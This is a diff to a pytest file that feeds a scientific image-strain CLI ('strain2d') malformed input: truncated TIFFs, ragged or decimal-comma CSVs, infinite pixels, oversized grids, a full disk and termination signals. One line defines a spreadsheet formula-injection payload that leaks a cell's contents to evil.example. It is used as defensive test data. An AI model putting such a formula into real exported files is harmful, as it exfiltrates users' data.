@@ -5,7 +5,14 @@ See tests/badinput.py for the contract and the families.
 
 from __future__ import annotations
 
+import errno
+import importlib
+import os
 import shutil
+import signal
+import subprocess
+import sys
+import time
 from pathlib import Path
 from types import SimpleNamespace
 
@@ -13,14 +20,22 @@ import numpy as np
 import pytest
 import tifffile
 
+import tissue_core.resources as resources
 from strain2d.cli import main
 from tests.badinput import (
+    REPO,
+    WRITING,
     assert_inert,
+    assert_no_process_left,
     assert_refused,
     interrupt,
+    killed,
+    message_lines,
     parse_case_id,
     scratch_left,
+    session_processes,
     snapshot,
+    stale_scratch,
     unwritable_folder,
     write,
 )
@@ -32,6 +47,7 @@ from tests.filenames import (
     shown,
     strict_json,
 )
+from tissue_core.outputs import foreign_content, read_marker
 
 PROG = "strain2d"
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
@@ -54,10 +70,28 @@ def inputs(small_case, tmp_path_factory):
     (d / "text.avi").write_text("not a video\n")
     tif = c.tif.read_bytes()
     (d / "truncated.tif").write_bytes(tif[: len(tif) // 2])
+    (d / "last_page_cut.tif").write_bytes(tif[: len(tif) * 99 // 100])
+    (d / "cut_tif").mkdir()
+    for k, frame in enumerate(tifffile.imread(c.tif)[:3]):
+        tifffile.imwrite(d / "cut_tif" / f"f{k}.tif", frame)
+    page = (d / "cut_tif" / "f2.tif").read_bytes()
+    (d / "cut_tif" / "f2.tif").write_bytes(page[: len(page) // 2])
     (d / "text.tif").write_text("not a tiff\n")
     tifffile.imwrite(d / "one_frame.tif", np.zeros((64, 64), np.uint8))
     tifffile.imwrite(d / "rgb_channels.tif", np.zeros((3, 2, 64, 64), np.uint8), imagej=True,
                      metadata={"axes": "TCYX"})  # fmt: skip
+    frames = tifffile.imread(c.tif).astype(np.float32)
+    for name, frame, value in (("inf_corner", 3, np.inf), ("nan_reference", 0, np.nan),
+                               ("minus_inf", 5, -np.inf)):  # fmt: skip
+        bad = frames.copy()
+        bad[frame, -3:, -3:] = value  # nine pixels in a corner, far from every point
+        tifffile.imwrite(d / f"{name}.tif", bad)
+    (d / "float_images").mkdir()
+    for k, frame in enumerate(frames[:3]):
+        if k == 2:
+            frame = frame.copy()
+            frame[0, 0] = np.inf
+        tifffile.imwrite(d / "float_images" / f"f{k}.tif", frame)
     (d / "no_images").mkdir()
     (d / "no_images" / "readme.txt").write_text("x")
     (d / "mixed").mkdir()
@@ -85,12 +119,23 @@ def inputs(small_case, tmp_path_factory):
         "empty": "",
         "header_only": "x,y\n",
         "binary": "\x00\x01\x02\xff",
+        "many": "x,y\n10,10\n60,60\n20,80\n90,30\n",
     }
     for name, text in csv.items():
         mode = "wb" if name == "binary" else "w"
         with open(d / f"points_{name}.csv", mode) as f:
             f.write(text.encode("latin-1") if mode == "wb" else text)
     (d / "points_bom.csv").write_bytes(b"\xef\xbb\xbfx,y\n10,10\n60,60\nnan,1\n")
+    # rows with more or fewer cells than the header: a decimal comma (10,5 for 10.5) makes one
+    # too many and would shift y into the next column
+    ragged = {
+        "decimal_comma": "x,y\n10,10\n60,5,60\n40,90\n",
+        "decimal_comma_first_row": "x,y\n10,5,10\n60,60\n40,90\n",
+        "short_row": "x,y\n10,10\n60\n40,90\n",
+        "trailing_comma": "x,y\n10,10\n60,60,\n40,90\n",
+    }
+    for name, text in ragged.items():
+        (d / f"points_{name}.csv").write_text(text)
     # track files from another tool, broken
     corners = [(10, 10), (90, 10), (50, 80)]
     rows = [f"{t},{i},{x},{y},1,1\n" for t in range(2) for i, (x, y) in enumerate(corners)]
@@ -101,10 +146,25 @@ def inputs(small_case, tmp_path_factory):
         "text": good.replace("90,10", "ninety,10", 1),
         "negative_index": good.replace("1,2,", "-1,2,", 1),
         "no_columns": "a,b\n1,2\n",
+        "huge_indices": good + "5,100000000,50,80,1,1\n",  # (T, N) arrays of 6 x 10^8 cells
+    }
+    # tracks of the video's 6 frames, each broken in one row (that read silently before)
+    rows = [f"{t},{i},{x},{y},1,1\n" for t in range(6) for i, (x, y) in enumerate(corners)]
+    whole = "frame,point,x,y,visible,quality\n" + "".join(rows)
+    tracks |= {
+        "decimal_comma": whole.replace("1,1,90,10,1,1", "1,1,90,5,10,1,1", 1),
+        "decimal_comma_reference": whole.replace("0,2,50,80,1,1", "0,2,50,80,5,1,1", 1),
+        "short_row": whole.replace("1,1,90,10,1,1", "1,1,90,10,1", 1),
+        "visible_7": whole.replace("1,1,90,10,1,1", "1,1,90,10,7,1", 1),
+        "visible_half": whole.replace("1,1,90,10,1,1", "1,1,90,10,0.5,1", 1),
+        "visible_true": whole.replace("0,1,90,10,1,1", "0,1,90,10,true,1", 1),
     }
     for name, text in tracks.items():
         (d / f"tracks_{name}.csv").write_text(text)
     np.savez(d / "tracks_ok.npz", positions=np.zeros((2, 3, 2)))
+    visible = np.ones((6, 3))
+    visible[1, 1] = 7
+    np.savez(d / "tracks_visible_7.npz", positions=np.tile(corners, (6, 1, 1)), visible=visible)
     (d / "tracks_corrupt.npz").write_bytes((d / "tracks_ok.npz").read_bytes()[:100])
     np.save(d / "tracks_shape.npy", np.zeros((2, 3)))
     np.savez(d / "tracks_named.npz", coords=np.zeros((2, 3, 2)))
@@ -118,6 +178,30 @@ def inputs(small_case, tmp_path_factory):
     (d / "manifest_missing.csv").write_text("run,group\nnowhere,a\n")
     (d / "manifest_endpoint.csv").write_text("run,endpoint\nnowhere,-1\n")
     (d / "not_a_run").mkdir()
+    # a run folder, and copies whose nodal table has a ragged row or a flag that is not 0 or 1
+    from tests.strain2d.test_study import _field, _write_run
+
+    _write_run(d / "run_ok", _field(0.8, 0.9, rng=np.random.default_rng(0), n_frames=4), endpoint=3)
+    nodes = (d / "run_ok" / "strain_nodes.csv").read_text().splitlines()
+    row = nodes[60].split(",")  # line 61: frame 1
+    damaged = {
+        "run_decimal_comma": [*row[:2], row[2].replace(".", ","), *row[3:]],
+        "run_visible_7": [*row[:6], "7", *row[7:]],
+    }
+    assert nodes[0].split(",")[6] == "visible"
+    for name, cells in damaged.items():
+        shutil.copytree(d / "run_ok", d / name)
+        text = "\n".join([*nodes[:60], ",".join(cells), *nodes[61:]]) + "\n"
+        (d / name / "strain_nodes.csv").write_text(text)
+    manifests = {
+        "extra_cell": "run,group\nrun_ok,a\nrun_ok,b,c\n",
+        "missing_cell": "run,specimen,group\nrun_ok,A,a\nrun_ok,B\n",
+    }
+    for name, text in manifests.items():
+        (d / f"manifest_{name}.csv").write_text(text)
+        (d / f"batch_manifest_{name}.csv").write_text(
+            text.replace("run,", "video,", 1).replace("run_ok", "eq.avi")
+        )
     # batch manifests: a name too long for a folder, names a spreadsheet would run
     (d / "batch_long_name.csv").write_text(f"video,specimen\neq.avi,{'x' * 300}\n")
     (d / "batch_formula.csv").write_text(
@@ -143,11 +227,15 @@ def _batch(c, *extra):
 
 
 def _analyze(c, *extra):
-    return ["-q", "analyze", c.avi, "--grid", "3x3", "--animation", "none", *extra]
+    """``analyze`` of the video (or of the source ``c``, a path) on a 3x3 grid."""
+    video = c if isinstance(c, Path) else c.avi
+    return ["-q", "analyze", video, "--grid", "3x3", "--animation", "none", *extra]
 
 
 def _track(c, *extra):
-    return ["-q", "track", c.avi, "--grid", "3x3", *extra]
+    """``track`` of the video (or of the source ``c``, a path) on a 3x3 grid."""
+    video = c if isinstance(c, Path) else c.avi
+    return ["-q", "track", video, "--grid", "3x3", *extra]
 
 
 def _points_file(name):
@@ -196,7 +284,13 @@ CASES = [
     ("analyze-truncated-avi-header", lambda c, o: ["analyze", c.dir / "header_only.avi",
      "--out", o], ["header_only.avi"]),
     ("analyze-truncated-tif", lambda c, o: ["analyze", c.dir / "truncated.tif", "--grid", "3x3",
-     "--out", o], ["truncated.tif"]),
+     "--out", o], ["truncated.tif is truncated"]),
+    ("track-truncated-tif-last-page", lambda c, o: _track(c.dir / "last_page_cut.tif",
+     "--out", o), ["last_page_cut.tif is truncated", "bytes"]),
+    ("analyze-truncated-tif-scale-auto", lambda c, o: _analyze(c.dir / "truncated.tif", "--scale",
+     "auto", "--out", o), ["truncated.tif is truncated"]),
+    ("analyze-truncated-tif-in-folder", lambda c, o: _analyze(c.dir / "cut_tif", "--out", o),
+     ["f2.tif is truncated", "runs to byte"]),
     ("track-truncated-npz", lambda c, o: ["track", "--tracker", "imported", c.avi,
      "--tracks-file", c.dir / "tracks_corrupt.npz", "--out", o], ["tracks_corrupt.npz"]),
     ("track-truncated-tracks-missing-row", lambda c, o: ["track", "--tracker", "imported", c.avi,
@@ -228,6 +322,10 @@ CASES = [
     ("track-wrong-type-points-binary", lambda c, o: ["track", c.avi, "--points",
      c.dir / "points_binary.csv", "--out", o], ["points_binary.csv"]),
     ("study-wrong-type-video-as-run", lambda c, o: ["study", c.avi, "--out", o], ["eq.avi"]),
+    ("study-wrong-type-folder-as-manifest", lambda c, o: ["study", "--manifest", c.dir / "mixed",
+     "--out", o], ["mixed is a folder"]),
+    ("track-wrong-type-folder-as-tracks-file", lambda c, o: ["track", "--tracker", "imported",
+     c.avi, "--tracks-file", c.dir / "mixed", "--out", o], ["mixed is a folder, not a tracks"]),
     # ---- CSV content
     *[(f"track-csv-points-{name}", _points_file(name), [fragment])
       for name, fragment in [("nan", "finite"), ("inf", "finite"), ("text", "points_text.csv"),
@@ -236,6 +334,41 @@ CASES = [
                              ("no_header", "points_no_header.csv"), ("bom", "finite")]],
     *[(f"track-csv-tracks-{name}", _tracks_file(name), [f"tracks_{name}.csv"])
       for name in ("duplicate_row", "text", "negative_index", "no_columns")],
+    # ---- CSV rows with more or fewer cells than the header, flags that are not 0 or 1
+    *[(f"{command}-csv-ragged-points-{name.replace('_', '-')}", (lambda cmd, n: lambda c, o: [
+        cmd, c.avi, "--points", c.dir / f"points_{n}.csv", "--out", o])(command, name),
+      [f"points_{name}.csv, line {line}", fragment])
+      for command in ("track", "analyze")
+      for name, line, fragment in [
+          ("decimal_comma", 3, "3 cells where the header has 2 (a decimal comma?): 60,5,60"),
+          ("decimal_comma_first_row", 2, "3 cells where the header has 2"),
+          ("short_row", 3, "1 cell where the header has 2: 60"),
+          ("trailing_comma", 3, "3 cells where the header has 2")]],
+    *[(f"track-csv-ragged-tracks-{name.replace('_', '-')}", _tracks_file(name),
+       [f"tracks_{name}.csv, line {line}", fragment])
+      for name, line, fragment in [
+          ("decimal_comma", 6, "7 cells where the header has 6 (a decimal comma?)"),
+          ("decimal_comma_reference", 4, "7 cells where the header has 6"),
+          ("short_row", 6, "5 cells where the header has 6")]],
+    *[(f"track-csv-visible-tracks-{name}", _tracks_file(f"visible_{name}"),
+       [f"tracks_visible_{name}.csv, line {line}", fragment])
+      for name, line, fragment in [("7", 6, "visible must be 0 or 1, got 7"),
+                                   ("half", 6, "visible must be 0 or 1, got 0.5"),
+                                   ("true", 3, "not a number")]],
+    ("track-csv-visible-tracks-npz-7", lambda c, o: ["track", "--tracker", "imported", c.avi,
+     "--tracks-file", c.dir / "tracks_visible_7.npz", "--out", o],
+     ["tracks_visible_7.npz", "visible must hold 0 or 1", "got 7"]),
+    ("study-csv-ragged-strain-nodes", lambda c, o: ["study", c.dir / "run_decimal_comma",
+     "--out", o], ["strain_nodes.csv, line 61", "cells where the header has", "decimal comma"]),
+    ("study-csv-visible-strain-nodes-7", lambda c, o: ["study", c.dir / "run_visible_7",
+     "--out", o], ["strain_nodes.csv, line 61", "visible must be 0 or 1, got 7"]),
+    *[(f"{command}-csv-ragged-manifest-{name.replace('_', '-')}", (lambda cmd, n: lambda c, o: [
+        cmd, *(["--manifest"] if cmd == "study" else []),
+        c.dir / f"{'batch_' if cmd == 'batch' else ''}manifest_{n}.csv", "--out", o])(
+            command, name), [f"manifest_{name}.csv, line 3: {fragment}"])
+      for command in ("study", "batch")
+      for name, fragment in [("extra_cell", "3 cells where the header has 2 (a decimal comma?)"),
+                             ("missing_cell", "2 cells where the header has 3")]],
     # ---- options out of range
     ("analyze-option-grid-1x5", lambda c, o: ["analyze", c.avi, "--grid", "1x5", "--out", o],
      ["--grid"]),
@@ -300,6 +433,34 @@ CASES = [
      "imported", "--out", o], ["imported"]),
     ("benchmark-option-grid", lambda c, o: ["benchmark", "--quick", "--grid", "0x3", "--out", o],
      ["--grid"]),
+    # ---- options that size an allocation beyond the frames or the memory
+    ("analyze-allocation-grid-100000x100000", lambda c, o: _analyze(c, "--grid", "100000x100000",
+     "--out", o), ["--grid 100000x100000", "0.00139 px apart", "at most 70x70"]),
+    ("analyze-allocation-grid-500x500", lambda c, o: _analyze(c, "--grid", "500x500", "--out", o),
+     ["--grid 500x500", "0.279 px apart", "closer than 2 px", "at most 70x70"]),
+    ("analyze-allocation-grid-in-roi", lambda c, o: _analyze(c, "--roi", "10,10,20,30", "--grid",
+     "20x20", "--out", o), ["--grid 20x20", "10x20 px region", "at most 6x11"]),
+    ("track-allocation-grid-500x500", lambda c, o: ["track", c.avi, "--grid", "500x500",
+     "--out", o], ["--grid 500x500", "at most 70x70"]),
+    ("analyze-allocation-tracks-memory", lambda c, o: _analyze(c, "--out", o),
+     ["tracking 9 points over 6 frames", "1.74 KiB of memory", "1000 bytes is available",
+      "--grid"]),
+    ("track-allocation-points-memory", lambda c, o: ["track", c.avi, "--points",
+     c.dir / "points_many.csv", "--out", o], ["tracking 4 points over 6 frames", "of memory"]),
+    ("track-allocation-tracks-indices-beyond-the-rows", _tracks_file("huge_indices"),
+     ["tracks_huge_indices.csv", "is incomplete", "point indices up to 1e+08"]),
+    ("benchmark-allocation-grid-1000x1000", lambda c, o: ["benchmark", "--quick", "--grid",
+     "1000x1000", "--out", o], ["--grid 1000x1000", "at most"]),
+    # ---- infinite or NaN pixels in float frames (a corner, far from every point)
+    ("analyze-nonfinite-inf-corner", lambda c, o: _analyze(c.dir / "inf_corner.tif", "--out", o),
+     ["inf_corner.tif", "frame 3", "9 infinite pixel values", "x=197, y=197"]),
+    ("analyze-nonfinite-nan-reference", lambda c, o: _analyze(c.dir / "nan_reference.tif",
+     "--out", o), ["nan_reference.tif", "frame 0", "9 NaN pixel values"]),
+    ("analyze-nonfinite-image-folder", lambda c, o: _analyze(c.dir / "float_images", "--out", o),
+     ["f2.tif", "frame 2", "1 infinite pixel value "]),
+    *[(f"track-nonfinite-minus-inf-{tracker}", (lambda t: lambda c, o: _track(
+        c.dir / "minus_inf.tif", "--tracker", t, "--out", o))(tracker),
+       ["minus_inf.tif", "frame 5", "9 infinite"]) for tracker in ("gdic", "dic", "klt")],
     # ---- conflicting options
     ("analyze-conflict-points-and-grid", lambda c, o: ["analyze", c.avi, "--points",
      c.dir / "points_nan.csv", "--grid", "3x3", "--out", o], ["--points", "--grid"]),
@@ -362,6 +523,11 @@ def _output_cases():
         ("benchmark-output-users-folder", lambda c, o: ["benchmark", "--quick", "--out", c.mine,
          "--overwrite"], ["thesis"]),
     ]
+    cases += [
+        (f"{command}-output-disk-full", lambda c, o, b=builder: b(c, "--roi", "60,60,140,140",
+         "--out", o), ["[Errno 28] No space left on device: '", "/out'"])
+        for command, builder in (("analyze", _analyze), ("track", _track))
+    ]
     cases.append(("analyze-output-read-only-folder", lambda c, o: _analyze(
         c, "--out", unwritable_folder(c.dir) / "run"), ["cannot be written"]))
     cases.append(("track-output-read-only-folder", lambda c, o: _track(
@@ -373,9 +539,38 @@ def _output_cases():
 ALL = CASES + _output_cases()
 
 
+def _memory(available: int):
+    """The machine has only ``available`` bytes of memory."""
+    return lambda monkeypatch: monkeypatch.setattr(resources, "available_memory", lambda: available)
+
+
+def _disk_full(module: str, name: str):
+    """The writer ``module.name`` writes part of its file, then the disk is full."""
+
+    def patch(monkeypatch):
+        def full(path, *args, **kwargs):
+            Path(path).write_text("part of a table")
+            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))  # as write() raises it
+
+        monkeypatch.setattr(importlib.import_module(module), name, full)
+
+    return patch
+
+
+#: what a case changes in the machine: less memory, a full disk
+PATCHES = {
+    "analyze-allocation-tracks-memory": _memory(1000),
+    "track-allocation-points-memory": _memory(100),
+    "analyze-output-disk-full": _disk_full("tissue_core.jsonio", "write_json"),
+    "track-output-disk-full": _disk_full("tissue_core.tables", "write_long_table"),
+}
+
+
 @pytest.mark.parametrize(("case", "build", "fragments"), ALL, ids=[c[0] for c in ALL])
 def test_bad_input(inputs, tmp_path, capsys, monkeypatch, request, case, build, fragments):
     monkeypatch.chdir(inputs.dir)
+    if case in PATCHES:
+        PATCHES[case](monkeypatch)
     out = tmp_path / "out"
     read = [inputs.dir]
     if case.startswith("study-formula-"):
@@ -398,7 +593,8 @@ def test_bad_input_cases_name_their_command_and_family():
     assert len({case for case, *_ in ALL}) == len(ALL)
 
 
-# ---- Ctrl-C at chosen moments of a real run (a process of its own) ------------------------
+# ---- Ctrl-C, SIGTERM and SIGHUP at chosen moments of a real run (a process of its own), and
+# ---- the scratch of runs killed outright (SIGKILL)
 
 
 @pytest.fixture(scope="module")
@@ -412,32 +608,275 @@ def long_video(tmp_path_factory):
     return folder / "rotation.avi"
 
 
+@pytest.fixture(scope="module")
+def two_runs(inputs, tmp_path_factory):
+    """Two analyze runs of the small video: the specimens of a study."""
+    folder = tmp_path_factory.mktemp("two_runs")
+    for name in ("S01", "S02"):
+        assert main([*map(str, _analyze(inputs)), "--out", str(folder / name)]) == 0
+    return folder
+
+
+@pytest.fixture(scope="module")
+def small_manifest(inputs, tmp_path_factory):
+    """A batch manifest of four copies of the small video (``manifest.csv``; its first two
+    rows: ``pair.csv``)."""
+    folder = tmp_path_factory.mktemp("manifest")
+    rows = ["video,specimen"]
+    for k in range(1, 5):
+        shutil.copy(inputs.avi, folder / f"S0{k}.avi")
+        rows.append(f"S0{k}.avi,S0{k}")
+    (folder / "manifest.csv").write_text("\n".join(rows) + "\n")
+    (folder / "pair.csv").write_text("\n".join(rows[:3]) + "\n")
+    return folder / "manifest.csv"
+
+
+#: ``python -c``: strain2d analyze with the compiled IC-GN kernel called over and over (inside
+#: the tracker's deferred block) until a signal arrives, so that it lands while compiled code
+#: runs; it says whether the signal was held until the kernel's block ended
+IN_KERNEL = """
+import runpy, sys, time
+import strain2d.trackers._icgn_kernel as kernel
+from tissue_core import interrupt
+real = kernel.icgn
+calls = []
+def icgn(*args):
+    result = real(*args)  # the first call loads the compiled kernel
+    calls.append(1)
+    if len(calls) == 2:
+        print("[icgn running]", file=sys.stderr, flush=True)
+        began = time.perf_counter()
+        while not interrupt._state.pending and time.perf_counter() - began < 60:
+            result = real(*args)
+        if interrupt._state.pending:
+            print("[icgn: the signal was held until the kernel's block ended]", file=sys.stderr)
+    return result
+kernel.icgn = icgn
+sys.argv = ["strain2d", *sys.argv[1:]]
+runpy.run_module("strain2d", run_name="__main__", alter_sys=True)  # as python -m strain2d
+"""
+
+
+def _signalled(request, tmp_path, *, when, after, grid, signum, kernel=False):
+    """analyze of the long video, with a signal at a stage."""
+    long_video = request.getfixturevalue("long_video")
+    out = tmp_path / "run"
+    argv = ["-c", IN_KERNEL] if kernel else ["-m", "strain2d"]
+    argv += ["analyze", long_video, "--grid", grid, "--animation", "mp4", "--out", out]
+    if kernel:
+        argv += ["--tracker", "dic"]
+    elif grid == COARSE:  # a stage after tracking: tracked quickly, whatever the tracker
+        argv += ["--tracker", "klt"]
+    status, err = interrupt(argv, after=after, when=when, out=out, inputs=[long_video.parent],
+                            signum=signum)  # fmt: skip
+    assert status == 128 + signum
+    assert [p.name for p in tmp_path.iterdir()] == (["run"] if out.exists() else [])
+    if kernel:
+        assert "[icgn: the signal was held until the kernel's block ended]" in err, err
+
+
+def _terminated(request, tmp_path, *, command, when, after):
+    """Another command that writes results, with SIGTERM at a stage."""
+    c, out = request.getfixturevalue("inputs"), tmp_path / "out"
+    if command == "track":
+        video = request.getfixturevalue("long_video")
+        out = tmp_path / "tracks.csv"
+        argv, inputs = ["track", video, "--grid", "40x40"], [video.parent]
+    elif command == "study":
+        runs = request.getfixturevalue("two_runs")
+        argv, inputs = ["study", runs / "S01", runs / "S02"], [runs]
+    else:
+        argv, inputs = ["benchmark", "--quick", "--cases", "equibiaxial", "--trackers", "dic"], []
+    status, _ = interrupt(["-m", "strain2d", *argv, "--out", out], after=after, when=when,
+                          out=out, inputs=[*inputs, c.dir], signum=signal.SIGTERM)  # fmt: skip
+    assert status == 143 and not out.exists()
+    assert list(tmp_path.iterdir()) == []
+
+
+def _hung_up(request, tmp_path):
+    """SIGHUP once the terminal the command writes to is gone: no line can be printed."""
+    import pty
+
+    video = request.getfixturevalue("long_video")
+    out = tmp_path / "run"
+    terminal, screen = pty.openpty()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "strain2d", "analyze", video, "--grid", "40x40", "--tracker", "klt",
+         "--out", out],
+        stdin=subprocess.DEVNULL, stdout=screen, stderr=screen, start_new_session=True,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )  # fmt: skip
+    os.close(screen)
+    shown = b""
+    while b"tracking 1600 points" not in shown:
+        try:
+            shown += os.read(terminal, 4096)
+        except OSError:  # the command ended: it closed the terminal's other side
+            break
+    proc.send_signal(signal.SIGHUP)  # the terminal window is closed: the command is told so
+    os.close(terminal)  # ... and what it prints from now on goes nowhere (EIO)
+    assert proc.wait(timeout=120) == 129, shown.decode(errors="replace")
+    assert_no_process_left(proc.pid)
+    assert list(tmp_path.iterdir()) == []
+
+
+def _stale(request, tmp_path, *, command):
+    """A run killed (SIGKILL) while writing; the next run removes what it left."""
+    c = request.getfixturevalue("inputs")
+    out = tmp_path / ("tracks.csv" if command == "track" else "out")
+    if command == "analyze":
+        argv = [*_analyze(c), "--out", out]
+        assert killed(["-m", "strain2d", *argv], out=out)  # a real run, killed mid-way
+    elif command == "track":  # its file is written in milliseconds: its scratch, as left
+        argv = [*_track(c), "--out", out]
+        stale_scratch(out, "file")
+    elif command == "study":
+        runs = request.getfixturevalue("two_runs")
+        argv = ["-q", "study", runs / "S01", runs / "S02", "--out", out]
+        stale_scratch(out)
+    else:  # the benchmark's rerun is stopped (SIGTERM) once it writes: it removed the scratch
+        stale_scratch(out)
+        argv = ["benchmark", "--quick", "--cases", "equibiaxial", "--trackers", "dic"]
+        interrupt(["-m", "strain2d", *argv, "--out", out], after=0.0, when=WRITING, out=out,
+                  signum=signal.SIGTERM)  # fmt: skip
+        assert list(tmp_path.iterdir()) == []
+        return
+    assert main([str(a) for a in argv]) == 0
+    assert scratch_left(tmp_path) == [] and out.exists()
+
+
+def _batch_terminated(request, tmp_path, *, moment):
+    """SIGTERM to a batch on a local cluster of two workers (``kill PID``: the batch process
+    alone) while a run is made, or while the cluster starts: it stops the workers, and whole
+    runs only are left."""
+    import threading
+
+    manifest = request.getfixturevalue("small_manifest")
+    out = tmp_path / "b"
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "strain2d", "batch", manifest, "--workers", "2", "--out", out,
+         "--no-study", "--grid", "3x3", "--animation", "none"],
+        stderr=subprocess.PIPE, text=True, errors="replace", start_new_session=True,
+        env={**os.environ, "PYTHONPATH": str(REPO)},
+    )  # fmt: skip
+    lines: list[str] = []
+    reader = threading.Thread(target=lambda: lines.extend(proc.stderr), daemon=True)
+    reader.start()
+    runs = out / "runs"
+
+    def now() -> bool:
+        if moment == "run":
+            return any(runs.glob(".S0*.tmp-*"))
+        # its worker processes exist, and the cluster is not up yet
+        started = any("workers;" in line for line in list(lines))
+        return len(session_processes(proc.pid)) > 1 and not started
+
+    deadline = time.monotonic() + 120
+    while proc.poll() is None and not now():
+        assert time.monotonic() < deadline, f"no {moment} seen"
+        time.sleep(0.002)
+    proc.send_signal(signal.SIGTERM)
+    proc.wait(timeout=120)
+    reader.join(timeout=10)
+    proc.stderr.close()
+    err = "".join(lines)
+    assert proc.returncode == 143, err
+    assert "Traceback" not in err, err
+    last = message_lines(err)[-1]
+    assert last.startswith("strain2d batch: terminated (SIGTERM)"), err
+    assert_no_process_left(proc.pid)  # the cluster's workers ended with the batch
+    made = sorted(runs.iterdir()) if runs.is_dir() else []  # none while the cluster starts
+    assert not runs.is_dir() or scratch_left(runs) == []
+    for run in made:  # whole runs only, with their marker, named in the line
+        assert read_marker(run) is not None and foreign_content(run) is None, run
+        assert str(run) in last, last
+    assert "terminated (SIGTERM): " in (out / "batch.log").read_text()
+
+
+def _batch_stale(request, tmp_path):
+    """A batch killed (SIGKILL) while it makes a run, and the scratch of a study killed so; the
+    rerun leaves no scratch anywhere."""
+    manifest = request.getfixturevalue("small_manifest").with_name("pair.csv")
+    out = tmp_path / "b"
+    argv = ["batch", manifest, "--workers", "1", "--out", out, "--grid", "3x3",
+            "--animation", "none"]  # fmt: skip
+    assert killed(["-m", "strain2d", *argv], out=out / "runs" / "S02")  # S01 was made
+    stale_scratch(out / "study")
+    assert main(["-q", *map(str, argv)]) == 0
+    for folder in (out, out / "runs", out / "study"):
+        assert scratch_left(folder) == [], folder
+    assert not (out / ".batch.lock").exists()
+    assert sorted(p.name for p in (out / "runs").iterdir()) == ["S01", "S02"]
+
+
 #: Ctrl-C ``after`` seconds after the step ``when`` was printed (None: after the start), on a
-#: run of a dense grid where it must land in tracking, of a coarse one (quicker) after tracking
+#: run of a dense grid where it must land in tracking, of a coarse one (tracked by klt, quicker)
+#: after tracking
+COARSE = "12x12"
 STAGES = [
     (None, 0.3, "40x40", "imports"),
     ("frames of", 0.02, "40x40", "reading"),
     ("tracking 1600 points (gdic)", 0.3, "40x40", "tracking"),  # the global fit, or IC-GN
     ("tracking 1600 points (gdic)", 1.5, "40x40", "tracking-later"),
-    ("strain on", 0.02, "12x12", "tables"),
-    ("figures and animation", 0.5, "12x12", "figures"),
+    ("strain on", 0.02, COARSE, "tables"),
+    ("figures and animation", 0.5, COARSE, "figures"),
+]
+#: SIGTERM (``kill``, ``timeout``, ``scancel``, ``docker stop``) and SIGHUP at stages
+TERMINATE_STAGES = [
+    ("frames of", 0.02, "40x40", signal.SIGTERM, "reading"),
+    ("[icgn running]", 0.05, "40x40", signal.SIGTERM, "in-icgn-kernel"),
+    ("strain on", 0.02, COARSE, signal.SIGTERM, "tables"),
+    ("figures and animation", 0.5, COARSE, signal.SIGTERM, "figures-and-animation"),
+    ("tracking 1600 points (gdic)", 0.3, "40x40", signal.SIGHUP, "sighup-tracking"),
+]
+INTERRUPTS = [
+    *(
+        pytest.param(
+            _signalled,
+            {"when": w, "after": a, "grid": g, "signum": signal.SIGINT},
+            id=f"analyze-interrupt-{stage}",
+        )
+        for w, a, g, stage in STAGES
+    ),
+    *(
+        pytest.param(
+            _signalled,
+            {"when": w, "after": a, "grid": g, "signum": s, "kernel": stage == "in-icgn-kernel"},
+            id=f"analyze-terminate-{stage}",
+        )
+        for w, a, g, s, stage in TERMINATE_STAGES
+    ),
+    pytest.param(_hung_up, {}, id="analyze-terminate-sighup-terminal-closed"),
+    pytest.param(
+        _terminated,
+        {"command": "track", "when": "tracking 1600", "after": 0.3},
+        id="track-terminate-tracking",
+    ),
+    pytest.param(
+        _terminated,
+        {"command": "study", "when": WRITING, "after": 0.1},
+        id="study-terminate-writing",
+    ),
+    pytest.param(
+        _terminated,
+        {"command": "benchmark", "when": "tracking with dic", "after": 0.3},
+        id="benchmark-terminate-tracking",
+    ),
+    pytest.param(_batch_terminated, {"moment": "run"}, id="batch-terminate-local-cluster"),
+    pytest.param(
+        _batch_terminated, {"moment": "cluster-start"}, id="batch-terminate-cluster-starting"
+    ),
+    *(
+        pytest.param(_stale, {"command": command}, id=f"{command}-stale-killed-run")
+        for command in ("analyze", "track", "study", "benchmark")
+    ),
+    pytest.param(_batch_stale, {}, id="batch-stale-killed-batch"),
 ]
 
 
-@pytest.mark.parametrize(
-    ("when", "after", "grid"),
-    [s[:3] for s in STAGES],
-    ids=[f"analyze-interrupt-{s[3]}" for s in STAGES],
-)
-def test_interrupt(long_video, tmp_path, when, after, grid):
-    out = tmp_path / "run"
-    status, _ = interrupt(
-        ["-m", "strain2d", "analyze", long_video, "--grid", grid, "--animation", "mp4",
-         "--out", out],
-        after=after, when=when, out=out, inputs=[long_video.parent],
-    )  # fmt: skip
-    assert status == 130
-    assert [p.name for p in tmp_path.iterdir()] == (["run"] if out.exists() else [])
+@pytest.mark.parametrize(("scenario", "options"), INTERRUPTS)
+def test_interrupt(scenario, options, request, tmp_path):
+    scenario(request, tmp_path, **options)
 
 
 def test_a_foreign_folder_survives_an_overwrite_attempt_untouched(inputs, capsys):
@@ -622,3 +1061,10 @@ class TestNamesNotUtf8:
         NAME_CASES[case](latin1_names, tmp)
         assert snapshot(latin1_names.dir) == before  # inputs untouched
         assert scratch_left(tmp) == []
+
+
+def test_every_command_has_terminate_and_stale_cases():
+    ids = [p.id for p in INTERRUPTS]
+    for command in ("analyze", "track", "study", "benchmark", "batch"):
+        for family in ("terminate", "stale"):
+            assert any(i.startswith(f"{command}-{family}-") for i in ids), (command, family)
